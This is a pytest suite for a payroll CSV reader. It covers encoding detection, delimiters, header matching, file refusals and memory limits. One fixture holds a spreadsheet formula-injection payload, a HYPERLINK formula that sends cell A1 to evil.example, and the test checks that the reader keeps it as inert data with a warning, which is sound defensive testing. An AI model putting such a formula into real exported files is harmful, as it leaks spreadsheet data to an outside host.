"""Reading payroll files: encodings, dialects, header, refusals, size and memory."""

from __future__ import annotations

import hashlib
import io
import tempfile
import tracemalloc

import pytest
from werkzeug.datastructures import FileStorage

from dashboard.ach.payroll_file import ENCODINGS
from dashboard.ach.payroll_file import FileRefused
from dashboard.ach.payroll_file import Problem
from dashboard.ach.payroll_file import Severity
from dashboard.ach.payroll_file import canonical_column
from dashboard.ach.payroll_file import read_payroll
from dashboard.ach.samples import COLUMNS
from tests.ach.payroll_csv import LIMIT
from tests.ach.payroll_csv import MAX_ITEM
from tests.ach.payroll_csv import UTF8_BOM
from tests.ach.payroll_csv import UTF16_BE
from tests.ach.payroll_csv import UTF16_LE
from tests.ach.payroll_csv import payroll_csv
from tests.ach.payroll_csv import read_all
from tests.ach.payroll_csv import row

ERROR = Severity.ERROR
WARNING = Severity.WARNING
COLUMNS_HELP = (
    "The columns are employee_id, payee_name, bank_code, branch_code, account_number, amount, currency"
    " and reference, optionally payee_name_zh and email, in any order; case, spaces, hyphens and"
    " underscores in the names do not matter."
)
SAVE_AS = "in Excel, choose File › Save As › CSV UTF-8"


def refusal(data: bytes, **options) -> Problem:
    with pytest.raises(FileRefused) as caught:
        read_all(data, **options)
    return caught.value.problem


def test_reads_a_utf8_file_into_checked_rows_and_facts():
    data = payroll_csv([row(payee_name_zh="陳大文", email="tm.chan@example.com"), row(employee_id="EMP0002")])
    rows, facts = read_all(data)
    first = rows[0]
    assert (first.row, first.employee_id, first.payee_name, first.payee_name_zh, first.email) == (
        2,
        "EMP0001",
        "CHAN TAI MAN",
        "陳大文",
        "tm.chan@example.com",
    )
    assert (first.bank_code, first.branch_code, first.account_number) == ("004", "123", "456789001")
    assert (first.amount_minor, first.currency, first.reference, first.problems) == (
        2350000,
        "HKD",
        "EMP0001 NOV26",
        (),
    )
    assert not first.has_error and not first.has_warning
    assert rows[1].row == 3
    assert facts.sha256 == hashlib.sha256(data).hexdigest()
    assert (facts.encoding, facts.size_bytes, facts.rows, facts.currency, facts.problems) == (
        "UTF-8",
        len(data),
        2,
        "HKD",
        [],
    )


def test_a_utf8_byte_order_mark_is_read_and_named():
    rows, facts = read_all(payroll_csv([row(payee_name_zh="陳大文")], bom=UTF8_BOM))
    assert facts.encoding == "UTF-8 with BOM"
    assert rows[0].employee_id == "EMP0001" and rows[0].payee_name_zh == "陳大文"
    assert rows[0].problems == ()


@pytest.mark.parametrize(
    ("encoding", "bom", "label"), [("utf-16-le", UTF16_LE, "UTF-16 LE"), ("utf-16-be", UTF16_BE, "UTF-16 BE")]
)
def test_excel_unicode_text_is_utf16_with_tabs(encoding, bom, label):
    data = payroll_csv(
        [row(payee_name_zh="陳大文"), row(employee_id="EMP0002", payee_name_zh="李小明")],
        delimiter="\t",
        encoding=encoding,
        bom=bom,
    )
    rows, facts = read_all(data)
    assert facts.encoding == label
    assert [(r.employee_id, r.payee_name_zh, r.amount_minor, r.problems) for r in rows] == [
        ("EMP0001", "陳大文", 2350000, ()),
        ("EMP0002", "李小明", 2350000, ()),
    ]


def test_the_size_limit_counts_the_decoded_text_not_the_raw_bytes():
    data = payroll_csv([row()], encoding="utf-16-le", bom=UTF16_LE)
    decoded = len(payroll_csv([row()]))
    assert len(data) > decoded
    rows, _ = read_all(data, max_decoded_bytes=decoded)
    assert len(rows) == 1


def test_big5_hkscs_names_are_read():
    # 𨋢 (lift) is a Hong Kong character of HKSCS, outside plain Big5.
    data = payroll_csv([row(payee_name_zh="陳𨋢")], encoding="big5hkscs")
    rows, facts = read_all(data)
    assert facts.encoding == "Big5-HKSCS"
    assert rows[0].payee_name_zh == "陳𨋢"


def test_cp950_is_tried_when_big5_hkscs_cannot_read_the_file():
    data = payroll_csv([row(payee_name_zh="陳大文€")], encoding="cp950")
    rows, facts = read_all(data)
    assert facts.encoding == "Big5 (cp950) (guessed)"  # Windows-1252 reads it too
    assert rows[0].payee_name_zh == "陳大文€"


def guessed_as(name: str) -> list[Problem]:
    return [
        Problem(
            "encoding_guessed",
            f"The file's encoding was guessed as {name}: check that the names in the preview read"
            " correctly, or choose the encoding on the form.",
            WARNING,
        )
    ]


def test_western_european_names_that_big5_also_reads_are_read_as_windows_1252():
    names = ["MÜLLER JÖRG", "FRANÇOIS DUPONT"]
    cells = [row(employee_id=f"EMP{n}", payee_name=name) for n, name in enumerate(names)]
    data = payroll_csv(cells, encoding="cp1252")
    data.decode("big5hkscs")  # valid Big5, as the wrong characters
    rows, facts = read_all(data)
    assert [found.payee_name for found in rows] == names
    assert (facts.encoding, facts.problems) == ("Windows-1252 (guessed)", guessed_as("Windows-1252"))


def test_big5_names_that_windows_1252_also_reads_stay_big5_as_a_guess():
    names = ["陳大文", "李小明", "黃嘉欣"]
    cells = [row(employee_id=f"EMP{n}", payee_name_zh=name) for n, name in enumerate(names)]
    data = payroll_csv(cells, encoding="big5hkscs")
    data.decode("cp1252")  # valid Windows-1252, as the wrong characters
    rows, facts = read_all(data)
    assert [found.payee_name_zh for found in rows] == names
    assert (facts.encoding, facts.problems) == ("Big5-HKSCS (guessed)", guessed_as("Big5-HKSCS"))


def test_another_encoding_is_guessed_with_a_warning():
    rows, facts = read_all(payroll_csv([row(payee_name="JOSÉ CAFÉ")], encoding="cp1252"))
    assert rows[0].payee_name == "JOSÉ CAFÉ"
    assert facts.encoding.endswith(" (guessed)")
    assert facts.problems == guessed_as(facts.encoding.removesuffix(" (guessed)"))


def test_the_uploader_may_choose_the_encoding():
    data = payroll_csv([row(payee_name_zh="陳大文")], encoding="gb18030")
    rows, facts = read_all(data, encoding="gb18030")
    assert (facts.encoding, rows[0].payee_name_zh, facts.problems) == (
        "GB18030 (chosen)",
        "陳大文",
        [],
    )


def test_every_encoding_label_fits_the_batchs_column():
    assert all(len(f"{label} (chosen)") <= 32 for _, label in ENCODINGS)


def test_a_chosen_encoding_that_cannot_read_the_file_refuses_it():
    data = payroll_csv([row(payee_name_zh="陳大文")], encoding="big5hkscs")
    assert refusal(data, encoding="utf-8") == Problem(
        "encoding",
        "The file cannot be read as UTF-8: it holds bytes that are not valid in that encoding."
        " Choose another encoding, or let the encoding be detected.",
        ERROR,
    )


def test_an_encoding_outside_the_offered_list_is_a_programming_error():
    assert ("utf-8", "UTF-8") in ENCODINGS
    with pytest.raises(ValueError, match="unknown encoding choice 'rot13'"):
        read_all(payroll_csv([row()]), encoding="rot13")


def test_a_file_in_no_known_encoding_is_refused():
    assert refusal(b"\x81\xff\x01\x02\x03\x1b" * 1000) == Problem(
        "undecodable",
        "The file is not text in UTF-8, UTF-16 or Big5 and its encoding could not be recognised:"
        f" {SAVE_AS}, or choose the file's encoding on the form.",
        ERROR,
    )


def test_a_broken_utf16_file_is_refused():
    data = UTF16_LE + "employee_id".encode("utf-16-le") + b"\x00\xdc"  # a lone low surrogate
    assert refusal(data) == Problem(
        "encoding",
        "The file starts with a UTF-16 LE byte-order mark but is not UTF-16 LE text:"
        f" {SAVE_AS}, or choose the file's encoding on the form.",
        ERROR,
    )


def test_a_workbook_is_refused_with_how_to_save_a_csv():
    assert refusal(b"PK\x03\x04" + b"\x00" * 100) == Problem(
        "not_csv",
        f"The file is a spreadsheet workbook, not a CSV file: {SAVE_AS} and upload that file.",
        ERROR,
    )


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolon_and_tab_files_are_read(delimiter):
    rows, _ = read_all(
        payroll_csv([row(payee_name="CHAN, TAI MAN"), row(employee_id="E2")], delimiter=delimiter)
    )
    assert [(r.employee_id, r.payee_name, r.amount_minor, r.problems) for r in rows] == [
        ("EMP0001", "CHAN, TAI MAN", 2350000, ()),
        ("E2", "CHAN TAI MAN", 2350000, ()),
    ]


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"])
def test_every_line_ending_is_read(newline):
    rows, _ = read_all(payroll_csv([row(), row(employee_id="E2")], newline=newline))
    assert [(r.row, r.employee_id, r.problems) for r in rows] == [(2, "EMP0001", ()), (3, "E2", ())]


def test_excels_separator_line_declares_the_delimiter_and_is_not_a_row():
    rows, _ = read_all(b"sep=;\r\n" + payroll_csv([row(amount="1,234.50")], delimiter=";"))
    assert [(r.row, r.amount_minor, r.problems) for r in rows] == [(2, 123450, ())]


def test_quoted_cells_keep_their_commas():
    data = payroll_csv([row(payee_name="CHAN, TAI MAN", amount="1,234.50")])
    assert b'"CHAN, TAI MAN"' in data and b'"1,234.50"' in data
    rows, _ = read_all(data)
    assert (rows[0].payee_name, rows[0].amount_minor, rows[0].problems) == ("CHAN, TAI MAN", 123450, ())


def test_a_line_break_inside_a_quoted_name_is_one_row_with_an_error():
    rows, _ = read_all(payroll_csv([row(payee_name="CHAN\nTAI MAN"), row(employee_id="E2")]))
    assert rows[0].payee_name == "CHAN\nTAI MAN"
    assert rows[0].problems == (
        Problem(
            "payee_name_control",
            'The payee name "CHAN↵TAI MAN" contains a line break or another control character:'
            " write it on one line, as on the bank account.",
            ERROR,
            2,
            "payee_name",
        ),
    )
    # A spreadsheet shows the two-line record as one row.
    assert rows[1].row == 3 and rows[1].problems == ()


def test_a_hyperlink_formula_in_a_name_is_data_kept_exactly():
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows, _ = read_all(payroll_csv([row(payee_name=formula)]))
    assert rows[0].payee_name == formula
    assert rows[0].problems == (
        Problem(
            "payee_name_long",
            "The payee name has 48 characters: banks with older formats keep only the first 35,"
            " so check that they still match the name on the account.",
            WARNING,
            2,
            "payee_name",
        ),
        Problem(
            "formula_like",
            'The payee name "=HYPERLINK("http://evil.example/?x="&A1,"Click")" starts with = as a'
            " spreadsheet formula does: it is kept as typed and never evaluated; check that it is what you"
            " meant.",
            WARNING,
            2,
            "payee_name",
        ),
    )


@pytest.mark.parametrize(
    ("written", "column"),
    [
        ("Employee ID", "employee_id"),
        ("employee_id", "employee_id"),
        (" EMPLOYEE_ID ", "employee_id"),
        ("employee-id", "employee_id"),
        ("Payee  Name  ZH", "payee_name_zh"),
        ("E-mail", "e_mail"),
    ],
)
def test_header_names_ignore_case_spaces_hyphens_and_underscores(written, column):
    assert canonical_column(written) == column


def test_header_columns_may_come_in_any_order_with_any_spelling():
    header = [
        "Amount",
        "CURRENCY",
        "Account Number",
        "bank-code",
        "Branch_Code",
        " Employee ID ",
        "Payee Name",
        "reference",
    ]
    columns = [
        "amount",
        "currency",
        "account_number",
        "bank_code",
        "branch_code",
        "employee_id",
        "payee_name",
        "reference",
    ]
    rows, _ = read_all(payroll_csv([row()], columns=columns, header=header))
    assert (rows[0].employee_id, rows[0].account_number, rows[0].amount_minor, rows[0].problems) == (
        "EMP0001",
        "456789001",
        2350000,
        (),
    )
    assert rows[0].payee_name_zh is None and rows[0].email is None


def test_every_cell_is_read_from_its_own_column_in_any_order():
    columns = [
        "email",
        "reference",
        "payee_name_zh",
        "currency",
        "amount",
        "account_number",
        "branch_code",
        "bank_code",
        "payee_name",
        "employee_id",
    ]
    cells = row(email="tm.chan@example.com", payee_name_zh="陳大文", branch_code="456", amount="12.30")
    rows, _ = read_all(payroll_csv([cells], columns=columns))
    read = rows[0]
    assert (read.email, read.reference, read.payee_name_zh, read.currency, read.amount_minor) == (
        "tm.chan@example.com",
        "EMP0001 NOV26",
        "陳大文",
        "HKD",
        1230,
    )
    assert (read.account_number, read.branch_code, read.bank_code, read.payee_name, read.employee_id) == (
        "456789001",
        "456",
        "004",
        "CHAN TAI MAN",
        "EMP0001",
    )
    assert read.problems == ()


def test_missing_and_unknown_columns_are_one_refusal():
    columns = [c for c in COLUMNS if c not in ("bank_code", "amount")] + ["Bank", "Amt"]
    data = payroll_csv([row()] * 1000, columns=columns[:-2], header=columns)
    assert refusal(data) == Problem(
        "header",
        "The header row does not match the payroll template. Missing: bank_code, amount."
        f' Not recognised: "Bank", "Amt". {COLUMNS_HELP}',
        ERROR,
        1,
    )


def test_a_repeated_column_is_refused():
    header = [*COLUMNS, "Amount"]
    assert refusal(payroll_csv([row()], header=header)) == Problem(
        "header",
        f"The header row does not match the payroll template. Repeated: amount. {COLUMNS_HELP}",
        ERROR,
        1,
    )


def test_trailing_empty_header_cells_are_ignored():
    rows, _ = read_all(payroll_csv([row()], header=[*COLUMNS, "", ""]))
    assert rows[0].problems == ()


@pytest.mark.parametrize("data", [b"", b"\r\n\r\n  \r\n", b",,,\r\n;;\r\n", UTF8_BOM, UTF16_LE])
def test_an_empty_file_is_refused(data):
    assert refusal(data) == Problem(
        "empty", "The file is empty: it has no header row and no payee rows.", ERROR
    )


@pytest.mark.parametrize("tail", [b"", b"\r\n\r\n", b",,,,,,,,,\r\n"])
def test_a_header_only_file_is_refused(tail):
    assert refusal(payroll_csv([]) + tail) == Problem(
        "header_only", "The file has a header row but no payee rows.", ERROR
    )


def test_a_file_just_over_the_size_limit_is_refused():
    data = payroll_csv([row(employee_id=f"E{n}") for n in range(50)])
    rows, _ = read_all(data, max_decoded_bytes=len(data))
    assert len(rows) == 50
    assert refusal(data + b"\r\n", max_decoded_bytes=len(data)) == Problem(
        "too_large",
        f"The file is {len(data) + 2:,} bytes once decoded, above the limit of {len(data):,} bytes:"
        " split the payroll into smaller batches.",
        ERROR,
    )


def test_blank_rows_are_skipped_but_counted_as_a_spreadsheet_does():
    data = (
        payroll_csv([row()]) + b"\r\n,,,,\r\n" + payroll_csv([row(employee_id="E3")])[len(payroll_csv([])) :]
    )
    rows, facts = read_all(data + b"\r\n\r\n")
    assert [(r.row, r.employee_id) for r in rows] == [(2, "EMP0001"), (5, "E3")]
    assert facts.rows == 2


def test_a_row_with_more_cells_than_the_header_is_an_error():
    data = payroll_csv([row()]) + b"E2,CHAN, TAI MAN,,004,123,456789001,100.00,HKD,E2 REF,x@example.com\r\n"
    rows, _ = read_all(data)
    assert rows[1].problems[0] == Problem(
        "row_cells",
        "This row has 11 cells but the header has 10 columns: a cell probably holds an unquoted comma,"
        " which shifts the cells after it.",
        ERROR,
        3,
    )


def test_a_short_row_reads_its_missing_cells_as_empty():
    rows, _ = read_all(payroll_csv([row()]) + b"E2,CHAN TAI MAN\r\n")
    assert [p.code for p in rows[1].problems] == [
        "bank_code_missing",
        "branch_code_missing",
        "account_missing",
        "amount_missing",
        "currency_missing",
    ]


def test_a_nul_character_refuses_the_file():
    assert refusal(payroll_csv([row(), row(employee_id="E\x00")])) == Problem(
        "not_csv", f"The file contains NUL characters, so it is not CSV text: {SAVE_AS}.", ERROR
    )


def test_utf16_without_a_byte_order_mark_is_recognised():
    rows, facts = read_all(payroll_csv([row(payee_name_zh="陳大文")], delimiter="\t", encoding="utf-16-le"))
    assert facts.encoding.endswith("(guessed)") and "16" in facts.encoding
    assert rows[0].payee_name_zh == "陳大文" and rows[0].problems == ()


def test_an_unclosed_quote_that_swallows_the_file_refuses_it_while_reading():
    data = payroll_csv([row()]) + b'E2,"CHAN TAI MAN,' + b"x" * 140_000 + b"\r\n"
    reader = read_payroll(io.BytesIO(data), max_decoded_bytes=LIMIT, max_item_minor=MAX_ITEM)
    with pytest.raises(FileRefused) as caught:
        list(reader)
    assert caught.value.problem == Problem(
        "csv",
        "Row 3 cannot be read as CSV (field larger than field limit (131072)): check that every quote in the"
        " file is closed.",
        ERROR,
        3,
    )


def test_the_stream_stays_open_and_the_rows_are_read_once():
    stream = io.BytesIO(payroll_csv([row()]))
    reader = read_payroll(stream, max_decoded_bytes=LIMIT, max_item_minor=MAX_ITEM)
    assert len(list(reader)) == 1
    del reader
    assert not stream.closed
    reader = read_payroll(stream, max_decoded_bytes=LIMIT, max_item_minor=MAX_ITEM)
    iter(reader)
    with pytest.raises(RuntimeError, match="read once"):
        iter(reader)


def test_an_upload_spooled_to_disk_is_read_and_left_open():
    with tempfile.SpooledTemporaryFile(max_size=1024) as spooled:
        spooled.write(payroll_csv([row(employee_id=f"E{n}") for n in range(100)]))
        upload = FileStorage(stream=spooled, filename="payroll.csv")
        reader = read_payroll(upload.stream, max_decoded_bytes=LIMIT, max_item_minor=MAX_ITEM)
        assert [r.employee_id for r in reader][-1] == "E99"
        assert not spooled.closed


def test_a_25_mb_file_is_refused_at_the_20_mb_default_without_holding_it(tmp_path):
    path = tmp_path / "big.csv"
    line = payroll_csv([row()])[len(payroll_csv([])) :]
    with path.open("wb") as out:
        out.write(payroll_csv([]))
        while out.tell() < 25 * 1024 * 1024:
            out.write(line * 1000)
    tracemalloc.start()
    try:
        with path.open("rb") as stream, pytest.raises(FileRefused) as caught:
            read_payroll(stream, max_decoded_bytes=20 * 1024 * 1024, max_item_minor=MAX_ITEM)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert caught.value.problem.message == (
        "The file is 25.0 MB once decoded, above the limit of 20.0 MB: split the payroll into smaller"
        " batches."
    )
    assert peak < 1024 * 1024, peak


def test_reading_rows_holds_one_row_at_a_time(tmp_path):
    # Only the duplicate check's hashes grow with the rows (a dict of them would cost 130 bytes a row).
    peaks = []
    for count in (2_000, 20_000):
        data = payroll_csv(
            [row(employee_id=f"E{n}", account_number=f"{n:09d}"[-9:].replace("0", "7")) for n in range(count)]
        )
        tracemalloc.start()
        try:
            rows = 0
            for payroll_row in read_payroll(
                io.BytesIO(data), max_decoded_bytes=LIMIT, max_item_minor=MAX_ITEM
            ):
                rows += 1
                assert not payroll_row.has_error
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert rows == count
        peaks.append(peak)
    assert peaks[0] < 512 * 1024, peaks
    assert peaks[1] - peaks[0] < 18_000 * 80, peaks
